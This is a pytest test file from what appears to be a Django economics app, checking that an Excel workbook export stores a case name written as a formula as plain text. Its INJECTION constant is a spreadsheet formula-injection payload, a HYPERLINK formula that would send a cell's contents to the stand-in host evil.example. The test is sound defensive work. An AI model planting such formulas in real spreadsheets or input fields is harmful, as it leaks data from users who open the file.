"""The business-case workbook writes names typed as formulas as text (issue 11, point 6)."""

from __future__ import annotations

import io
import zipfile

import pytest
from django.urls import reverse

from indsats.economy import services
from tests.conftest import logged_in
from tests.economy.factories import worked_example_case

pytestmark = pytest.mark.django_db

INJECTION = '=HYPERLINK("http://evil.example/?d="&B5,"klik")'


def test_a_case_named_as_a_formula_is_exported_as_text(economist):
    result = services.request_computation(actor=economist, case=worked_example_case(name=INJECTION))
    response = logged_in(economist).get(reverse("economy:result_excel", args=[result.pk]))
    archive = zipfile.ZipFile(io.BytesIO(response.content))
    sheets = [archive.read(n) for n in archive.namelist() if n.startswith("xl/worksheets/sheet")]
    assert not any(b"<f>" in sheet for sheet in sheets)
    assert b"HYPERLINK" in archive.read("xl/sharedStrings.xml")
